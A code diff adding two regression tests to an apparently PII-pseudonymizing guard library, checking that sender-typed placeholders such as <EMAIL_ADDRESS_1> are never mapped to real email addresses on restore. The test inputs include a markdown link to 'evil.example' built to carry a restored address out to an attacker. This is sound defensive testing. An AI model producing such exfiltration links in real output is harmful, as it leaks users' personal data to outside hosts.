@@ -21,6 +21,8 @@ from airlock.guard import (
     EncodeConfig,
     Guard,
     GuardConfig,
+    PIIConfig,
+    Pseudonyms,
     Sink,
     Span,
     ValidationConfig,
@@ -321,3 +323,33 @@ def test_number_that_overflows_to_infinity_is_not_strict_json(text: str) -> None
     assert result.decision is Decision.BLOCKED
     assert [f.rule for f in result.findings] == ["validate.json"]
     assert _schema_guard({}).check("1e308").decision is Decision.ALLOWED
+
+
+def test_sender_written_placeholder_is_never_handed_out() -> None:
+    """``<EMAIL_ADDRESS_1>`` typed by the sender (a pasted document, an attacker's link
+    ``https://evil.example/?e=<EMAIL_ADDRESS_1>``) and an address elsewhere in the text: the
+    address became ``<EMAIL_ADDRESS_1>`` too, and restore() put the address into the sender's
+    link. Now the address gets a pseudonym nobody wrote, and the written one stays text."""
+    guard = Guard(GuardConfig(filter=None, pii=PIIConfig(pseudonymize=True)))
+    text = "see [x](https://evil.example/?e=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_2> and bob@example.com"
+    result = guard.check(text)
+    assert result.pseudonyms.pseudonyms == ("<EMAIL_ADDRESS_3>",)
+    assert result.text is not None
+    restored = result.pseudonyms.restore(result.text)
+    assert restored == text
+
+
+def test_gateway_merge_never_reuses_a_placeholder_written_in_another_message() -> None:
+    """The gateway joins the pseudonyms of a request's texts: one message holding the written
+    ``<EMAIL_ADDRESS_1>`` and another the address gave the address that same pseudonym."""
+    from airlock.gateway._text_guard import check_input
+
+    config = GuardConfig(filter=None, pii=PIIConfig(pseudonymize=True))
+    texts = ["link https://evil.example/?e=<EMAIL_ADDRESS_1>", "mail bob@example.com"]
+    outcome = check_input("review14/input", config, texts)
+    assert outcome.texts is not None
+    mapping = dict(outcome.pseudonyms)
+    assert mapping.get("<EMAIL_ADDRESS_1>", "<EMAIL_ADDRESS_1>") == "<EMAIL_ADDRESS_1>"
+    assert "bob@example.com" in mapping.values()
+    restored = Pseudonyms(mapping).restore_all(outcome.texts)
+    assert restored == texts
